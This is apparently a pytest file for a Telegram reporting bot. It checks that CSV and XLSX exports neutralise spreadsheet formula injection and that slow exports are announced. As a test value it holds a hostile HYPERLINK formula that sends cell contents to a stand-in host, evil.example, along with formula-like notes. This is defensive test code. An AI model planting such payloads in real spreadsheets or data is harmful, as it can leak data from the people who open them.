"""/export through the real bot: hostile names and notes stay text in the CSV and the .xlsx, the
workbook's reports sheet says cell by cell what the CSV says, and a slow export is announced."""

from __future__ import annotations

import csv
import io
from datetime import date, datetime
from zoneinfo import ZoneInfo

import pytest
from openpyxl import load_workbook

import handlers.export
from bot.demo.sandbox.records import SentMessage
from bot.rendering.formula_guard import neutralise
from tests.auxil.harness import ADMIN_ID, Harness, taipei

TZ = ZoneInfo("Asia/Taipei")
HOSTILE_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"點我")'
OFFICER, OTHER = 911, 912
PREPARING = "檔案準備中"


async def exported(harness: Harness, user_id: int, text: str) -> SentMessage:
    """The document /export sends (after the "preparing" message, if the export took long)."""
    answer = await harness.say(user_id, text, timeout=15)
    if PREPARING in (answer.plain_text or ""):
        answer = await harness.standin.next_message(user_id, timeout=15)
    assert answer.document is not None, answer
    return answer


@pytest.fixture
async def hostile(harness: Harness) -> Harness:
    """An officer whose display name is a formula, with notes that start like formulas."""
    harness.clock.set(taipei("2026-12-06T10:00:00"))
    await harness.register(OFFICER, "p1", "officer", name=HOSTILE_NAME)
    await harness.register(OTHER, "traffic", "officer", name="交通隊員")
    for officer, line in (
        (OFFICER, "/report 宣導 2 today @SUM(1+1)*cmd"),
        (OFFICER, "/report 酒駕 3 yesterday -2+3 路檢"),
        (OTHER, "/report 酒駕 7 today +1 臨檢"),
        (OTHER, "/report 家暴 1"),
    ):
        assert "已記錄" in ((await harness.say(officer, line)).plain_text or ""), line
    undo = await harness.say(OTHER, "/undo")
    await harness.tap(OTHER, undo, "撤銷")
    return harness


def test_neutralise_keeps_plain_text_and_prefixes_formula_starts() -> None:
    assert [neutralise(text) for text in ("=1", "+1", "-1", "@A1", "\t=1", "\r=1")] == [
        "'=1",
        "'+1",
        "'-1",
        "'@A1",
        "'\t=1",
        "'\r=1",
    ]
    assert [neutralise(text) for text in ("陳警員", "1+1", "", "a=b", "'=1")] == [
        "陳警員",
        "1+1",
        "",
        "a=b",
        "'=1",
    ]


async def test_hostile_names_and_notes_are_text_in_csv_and_xlsx(hostile: Harness) -> None:
    sheet = load_workbook(io.BytesIO(_bytes(await exported(hostile, ADMIN_ID, "/export 2026 xlsx"))))["回報"]
    rows = list(
        csv.reader(
            io.StringIO(_bytes(await exported(hostile, ADMIN_ID, "/export 2026 csv")).decode("utf-8-sig"))
        )
    )
    by_id = {int(row[0]): row for row in rows[1:]}
    notes = {"'@SUM(1+1)*cmd", "'-2+3 路檢", "'+1 臨檢"}
    assert {row[7] for row in by_id.values()} - {""} == notes
    assert {row[4] for row in by_id.values() if row[3] == str(OFFICER)} == {"'" + HOSTILE_NAME}
    cells = [row for row in sheet.iter_rows(min_row=2)]
    assert len(cells) == len(by_id) == 4
    for row in cells:
        name, count, note = row[5], row[8], row[9]
        assert name.data_type == "s" and not name.value.startswith("=")
        assert count.data_type == "n" and count.value == int(by_id[row[0].value][6])
        if note.value is not None:
            assert note.data_type == "s" and note.value in notes
        assert all(cell.data_type != "f" for cell in row)
    assert {row[5].value for row in cells if row[4].value == OFFICER} == {"'" + HOSTILE_NAME}


async def test_workbook_reports_match_the_csv_cell_by_cell(hostile: Harness) -> None:
    book = load_workbook(io.BytesIO(_bytes(await exported(hostile, ADMIN_ID, "/export 2026 xlsx"))))
    text = _bytes(await exported(hostile, ADMIN_ID, "/export 2026 csv")).decode("utf-8-sig")
    csv_rows = list(csv.DictReader(io.StringIO(text)))
    sheet_rows = list(book["回報"].iter_rows(min_row=2, values_only=True))
    assert len(sheet_rows) == len(csv_rows) == 4
    voided = 0
    for cells, row in zip(sheet_rows, csv_rows, strict=True):
        received = datetime.fromisoformat(row["received_at"]).astimezone(TZ).replace(tzinfo=None)
        expected_void = (
            datetime.fromisoformat(row["voided_at"]).astimezone(TZ).replace(tzinfo=None)
            if row["voided_at"]
            else None
        )
        voided += expected_void is not None
        assert (
            cells[0],
            cells[1].date(),
            cells[3],
            cells[4],
            cells[5],
            cells[7],
            cells[8],
            cells[9] or "",
            cells[10],
            cells[11],
        ) == (
            int(row["report_id"]),
            date.fromisoformat(row["report_date"]),
            row["unit"],
            int(row["officer_telegram_id"]),
            row["officer_name"],
            row["indicator"],
            int(row["count"]),
            row["note"],
            received,
            expected_void,
        )
    assert voided == 1


async def test_an_export_that_takes_long_is_announced(
    hostile: Harness, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(handlers.export, "PREPARING_AFTER", 0)
    mark = len(hostile.standin.calls)
    notice = await hostile.say(ADMIN_ID, "/export 2026 xlsx", timeout=15)
    assert PREPARING in (notice.plain_text or "")
    document = await hostile.standin.next_message(ADMIN_ID, timeout=15)
    assert document.document is not None and document.document[0] == "fieldbot-2026-all.xlsx"
    actions = [params for name, params in hostile.standin.calls[mark:] if name == "sendChatAction"]
    assert [params.get("action") for params in actions] == ["upload_document"]


async def test_a_quick_export_sends_the_file_alone(hostile: Harness, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(handlers.export, "PREPARING_AFTER", 60)
    answer = await hostile.say(ADMIN_ID, "/export 2026 csv", timeout=15)
    assert answer.document is not None and answer.document[0] == "fieldbot-2026-all.csv"
    assert not any(name == "sendChatAction" for name, _ in hostile.standin.calls)


def _bytes(message: SentMessage) -> bytes:
    assert message.document is not None
    return message.document[1]
